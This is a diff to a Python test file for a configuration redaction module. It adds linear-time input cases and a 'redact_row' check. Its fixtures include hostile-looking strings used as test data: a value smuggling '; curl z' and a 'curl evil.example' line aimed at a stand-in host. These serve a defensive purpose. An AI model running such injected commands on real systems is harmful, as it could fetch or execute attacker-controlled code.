@@ -7,7 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from tpucfg.changes.facts import ABSENT, Change, redact_change
-from tpucfg.redaction import redact, redact_report, redact_value
+from tpucfg.redaction import redact, redact_report, redact_row, redact_value
 
 JWT = "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJhY21lIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ"
 
@@ -72,12 +72,13 @@ def test_redaction_of_assignments_is_idempotent(text: str) -> None:
     assert redact(redact(text)) == redact(text)
 
 
-@pytest.mark.parametrize("part", ["a=", "--a ", "a='", 'a="', "--", "a.b-c_", "//a:", "token=", "@a", "x: "])
+@pytest.mark.parametrize("part", ["a=", "--a ", "a='", 'a="', "--", "a.b-c_", "//a:", "token=", "@a", "x: ", "key: "])
 def test_hostile_texts_take_linear_time(part: str) -> None:
     """Half a megabyte is redacted within seconds."""
     text = part * (500_000 // len(part))
     start = time.process_time()
     redact(text)
+    redact_row(text)
     assert time.process_time() - start < 4
 
 
@@ -116,6 +117,7 @@ def test_a_command_is_shown_under_any_name() -> None:
         (' 9 | {"apiKey": "x", "b": "y; curl z"}', ' 9 | {"apiKey": [secret]'),
         ("3 |   max_tokens: 512", "3 |   max_tokens: 512"),
         ("3 |   pre_exec_token: curl evil.example", "3 |   pre_exec_token: curl evil.example"),
+        ("5 |   key: " + 50 * "many words ", "5 |   key: [secret]"),
         ("API_KEY: hunter2", "API_KEY: hunter2"),
     ],
 )
